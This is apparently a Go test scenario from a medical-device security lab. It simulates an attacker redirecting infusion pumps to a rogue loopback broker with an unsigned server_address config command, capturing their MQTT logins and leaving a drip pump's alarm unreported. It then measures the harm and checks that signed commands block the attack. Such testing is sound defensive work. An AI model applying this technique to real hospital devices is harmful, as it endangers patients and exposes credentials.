package scenarios

import (
	"context"
	"fmt"
	"net"
	"net/url"
	"sync"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/oracle"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
	"github.com/pumplab/pumplab/simulators/pumpwire"
)

// sink is the attacker's loopback "server" that orphaned pumps connect to:
// it accepts, keeps the first bytes of each connection (an MQTT CONNECT
// with the pump's login when the posture has no TLS) and never answers.
type sink struct {
	ln    net.Listener
	mu    sync.Mutex
	conns [][]byte
	wg    sync.WaitGroup
}

func startSink(ctx context.Context) (*sink, error) {
	ln, err := attack.Loopback().Listen(ctx, "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &sink{ln: ln}
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.mu.Lock()
			i := len(s.conns)
			s.conns = append(s.conns, nil)
			s.mu.Unlock()
			s.wg.Add(1)
			go func() {
				defer s.wg.Done()
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				buf := make([]byte, 1024)
				for n := 0; n < 4096; {
					k, err := c.Read(buf)
					s.mu.Lock()
					s.conns[i] = append(s.conns[i], buf[:k]...)
					s.mu.Unlock()
					n += k
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return s, nil
}

// captured returns the first bytes of every connection so far.
func (s *sink) captured() [][]byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([][]byte(nil), s.conns...)
}

func (s *sink) Close() error {
	err := s.ln.Close()
	s.wg.Wait()
	return err
}

// ATK-33 Pump network reconfiguration (REFERENCE.md §3.1): with the pump
// server's broker login the attacker sends config server_address=<its own
// sink> to several pumps; they leave the real broker and connect to the sink
// (handing it their login where there is no TLS). Harm: pump-minutes offline
// at the pump server, and an alarm raised on an orphaned pump that no nurse
// is told of.
var _ = Describe("ATK-33 pump network reconfiguration orphans the fleet", harness.Register("ATK-33", "Pump network reconfiguration (orphan the fleet)",
	harness.Kind("attack"), harness.Technique("T0855"), harness.Technique("T0836"), harness.Technique("T0815"),
	harness.Area("AU"), harness.Area("WL"), harness.Lifecycle("use"), harness.Target("pump"), harness.Target("broker")), func() {
	f := harness.New("atk-33-orphan-fleet")

	It("moves three pumps off the pump server to an attacker sink", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		all := f.Lab.Pumps()
		Expect(len(all)).To(BeNumerically(">=", 4))
		targets := all[len(all)-3:]

		By("a norepinephrine drip running on one of the three pumps (its alarms go to the patient's nurse)")
		_, err := startNorepinephrine(w, f.Lab, targets[0], "MRN5533", 250)
		Expect(err).NotTo(HaveOccurred())

		By("the attacker starting a loopback sink and sending config server_address to three pumps")
		sk, err := startSink(w)
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(sk.Close)
		const client = "atk33-maint"
		step := attack.Step{ScenarioID: "ATK-33", StepID: "ATK-33/1", Techniques: []string{"T0855", "T0836", "T0815"}, Tactic: "TA0105",
			Assets: append([]string{"broker"}, targets...), Correlation: []string{"mqtt-client:" + client, "tcp:" + sk.ln.Addr().String()},
			Criteria: "the pumps leave the pump server's broker for the attacker's address", Control: "signed-commands", Window: 15 * time.Minute}
		acks := map[string]pumpwire.CommandAck{}
		pending := map[string]*pendingCmd{}
		from := f.Lab.Clock().Now()
		err = f.Attack(w, step, func(ctx context.Context) error {
			c, err := dialConfigChannel(ctx, f.Lab, client)
			if err != nil {
				return err
			}
			defer c.Close()
			foot, err := foothold(ctx, f.Lab, "pumpserver")
			if err != nil {
				return err
			}
			// The sink takes the real broker's scheme: a pump on TLS then
			// starts a TLS handshake with it, a legacy pump sends CONNECT.
			u, err := url.Parse(foot.MQTTURL)
			if err != nil {
				return err
			}
			addr := u.Scheme + "://" + sk.ln.Addr().String()
			attack.Correlate(ctx, "tcp:"+sk.ln.Addr().String())
			// A pump that takes the command moves at once and answers on
			// the new broker: the attacker sees it leave the real one
			// (its online topic, or the server's view) instead.
			for _, id := range targets {
				p, err := c.send(ctx, id, pumpwire.Command{Op: pumpwire.OpConfig,
					Settings: map[string]string{pumpwire.SetServerAddress: addr}})
				if err != nil {
					return err
				}
				defer p.stop(ctx)
				pending[id] = p
			}
			for {
				done := 0
				pumps, err := f.Lab.PumpServer().Pumps(ctx)
				if err != nil {
					return err
				}
				for _, id := range targets {
					if a, ok := pending[id].answer(); ok {
						acks[id] = a
						done++
						continue
					}
					for _, p := range pumps {
						if p.ID == id && !p.Online {
							acks[id] = pumpwire.CommandAck{Result: "moved", Code: "offline at the pump server"}
							done++
						}
					}
				}
				if done == len(targets) {
					return nil
				}
				if err := sleepLab(ctx, f.Lab, time.Second); err != nil {
					return err
				}
			}
		})
		Expect(err).NotTo(HaveOccurred())
		for _, id := range targets {
			AddReportEntry("answer of "+id, fmt.Sprintf("%s %s", acks[id].Result, acks[id].Code))
		}
		blocked := f.ControlOn("signed-commands")
		if blocked {
			By("every pump refusing the unsigned config command")
			ev := expectBlocked(w, f.Lab, "signed-commands")
			AddReportEntry("signed-commands", ev.Reason)
			for _, id := range targets {
				Expect(acks[id].Result).To(Equal(pumpwire.ResultRejected), id)
			}
		} else {
			By("the pump server seeing the three pumps go offline")
			for _, id := range targets {
				Expect(acks[id].Result).NotTo(Equal(pumpwire.ResultRejected), id)
			}
			Eventually(func(g Gomega) {
				pumps, err := f.Lab.PumpServer().Pumps(w)
				g.Expect(err).NotTo(HaveOccurred())
				off := 0
				for _, p := range pumps {
					for _, id := range targets {
						if p.ID == id && !p.Online {
							off++
						}
					}
				}
				g.Expect(off).To(Equal(len(targets)))
			}).WithContext(w).WithPolling(20 * time.Millisecond).Should(Succeed())
		}
		allOff := f.Lab.Clock().Now() // (legacy) all three gone by now

		By("a low-battery alarm on the pump running a drip, five lab minutes later")
		Expect(sleepLab(w, f.Lab, 5*time.Minute)).To(Succeed())
		injected := f.Lab.Clock().Now()
		Expect(f.Lab.Devices().InjectFault(w, targets[0], "", "battery_low")).To(Succeed())
		var battery string
		as, err := f.Lab.Devices().ActiveAlarms(w, targets[0])
		Expect(err).NotTo(HaveOccurred())
		for _, a := range as {
			if a.Code == "battery_low" {
				battery = a.ID
			}
		}
		Expect(battery).NotTo(BeEmpty(), "the pump shows the battery alarm")
		if blocked {
			_, err := f.Lab.Alarms().WaitAlarm(w, func(a lab.AlarmRecord) bool { return a.AlertID == battery })
			Expect(err).NotTo(HaveOccurred(), "the alarm manager got the battery alarm")
		}
		Expect(sleepLab(w, f.Lab, 5*time.Minute)).To(Succeed())
		to := f.Lab.Clock().Now()

		By("measuring pump-minutes offline and alarms no one was told of")
		pres, err := f.Lab.PumpServer().Presence(w)
		Expect(err).NotTo(HaveOccurred())
		harm := score.Harm{PumpMinutesOffline: oracle.PumpMinutesOffline(pres, targets, from, to)}
		as, err = f.Lab.Devices().ActiveAlarms(w, targets[0])
		Expect(err).NotTo(HaveOccurred())
		recs, err := f.Lab.Alarms().Records(w)
		Expect(err).NotTo(HaveOccurred())
		for _, a := range as {
			if a.Onset.Before(injected) {
				continue
			}
			known := false
			for _, r := range recs {
				known = known || (r.PumpID == targets[0] && r.AlertID == a.ID)
			}
			if !known {
				harm.AlarmsMissed++ // sounding at the bedside, unknown to the alarm manager
			}
		}
		harm.CredsExposed = oracle.ExposedCredentials(sk.captured())
		effect := harm.PumpMinutesOffline > 0
		f.Observe(step.StepID, score.Observed{Effect: effect, Harm: harm})
		AddReportEntry("pump-minutes offline", fmt.Sprintf("%.1f", harm.PumpMinutesOffline))
		AddReportEntry("alarms missed", fmt.Sprint(harm.AlarmsMissed))
		AddReportEntry("connections to the sink", fmt.Sprint(len(sk.captured())))
		AddReportEntry("credentials the sink received", fmt.Sprint(harm.CredsExposed))

		if blocked {
			Expect(harm.PumpMinutesOffline).To(BeZero())
			Expect(sk.captured()).To(BeEmpty(), "no pump connected to the sink")
			Expect(oracle.Harmful(harm)).To(BeFalse(), "harm %+v", harm)
			return
		}
		gone := to.Sub(allOff).Minutes()
		Expect(harm.PumpMinutesOffline).To(BeNumerically(">=", gone*float64(len(targets))), "the three pumps stayed away")
		Expect(harm.AlarmsMissed).To(Equal(1))
		Expect(sk.captured()).NotTo(BeEmpty(), "the orphaned pumps connect to the attacker")
		Expect(oracle.Harmful(harm)).To(BeTrue())
	})
})
